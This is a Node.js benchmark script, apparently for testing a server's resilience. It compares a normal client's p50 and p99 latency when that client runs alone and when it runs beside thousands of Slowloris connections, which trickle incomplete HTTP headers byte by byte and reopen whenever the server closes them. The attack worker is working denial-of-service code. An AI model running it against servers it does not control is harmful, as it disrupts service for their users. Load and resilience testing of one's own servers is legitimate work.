// slowloris.mjs URL SOCKETS: how long a normal client waits for an answer, alone and beside SOCKETS connections that send a head byte by
// byte, one every two seconds, and never end it. A connection that the server closes is opened anew, and what is measured lasts longer than
// a head may take, so that all of them are closed and opened once. One JSON line: p50 and p99 in microseconds of both.
import http from "node:http";
import net from "node:net";
import { Worker, isMainThread, parentPort, workerData } from "node:worker_threads";

const WARM_MS = 2000, ALONE_MS = 5000, BESIDE_MS = 13000, DRIP_MS = 2000, TICK_MS = 20;

// The attack has a thread of its own: it must not be what the normal client waits for.
function attack({ port, host, wanted }) {
  const sockets = new Array(wanted);
  let opened = 0, open = 0, next = 0;
  function connect(place) {
    const socket = net.connect(port, host);
    socket.on("connect", () => {
      opened++;
      open++;
      socket.write("GET /health HTTP/1.1\r\nHost: a\r\nX: ");
      sockets[place] = socket;
      if (opened === wanted) parentPort.postMessage({ ready: true });
    });
    socket.resume(); // the end is noticed when all before it was read
    socket.on("error", () => {});
    socket.on("close", () => {
      open--;
      sockets[place] = undefined;
      connect(place);
    });
  }
  for (let place = 0; place < wanted; place++) connect(place);
  setInterval(() => {
    for (let n = 0; n < (wanted * TICK_MS) / DRIP_MS; n++) sockets[next++ % wanted]?.write("a");
  }, TICK_MS);
  parentPort.on("message", () => parentPort.postMessage({ opened, open }));
}

async function main() {
  const url = new URL(process.argv[2]);
  const wanted = Number(process.argv[3] ?? 2000);
  const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });

  function ask() {
    return new Promise((resolve, reject) => {
      const started = process.hrtime.bigint();
      http.get({ host: url.hostname, port: url.port, path: "/health", agent }, (answer) => {
        answer.resume();
        answer.on("end", () => resolve(Number(process.hrtime.bigint() - started) / 1000));
      }).on("error", reject);
    });
  }

  async function measure(duration) {
    const times = [], end = performance.now() + duration;
    while (performance.now() < end) times.push(await ask());
    times.sort((a, b) => a - b);
    const at = (part) => Math.round(times[Math.floor((times.length - 1) * part)]);
    return { p50: at(0.5), p99: at(0.99), max: at(1), requests: times.length };
  }

  const message = (worker) => new Promise((resolve) => worker.once("message", resolve));
  await measure(WARM_MS);
  const alone = await measure(ALONE_MS);
  const worker = new Worker(new URL(import.meta.url), { workerData: { port: Number(url.port), host: url.hostname, wanted } });
  await message(worker);
  const beside = await measure(BESIDE_MS);
  worker.postMessage("count");
  console.log(JSON.stringify({ alone, beside, ...(await message(worker)), ratio_p99: beside.p99 / alone.p99 }));
  process.exit(0);
}

if (isMainThread) await main();
else attack(workerData);
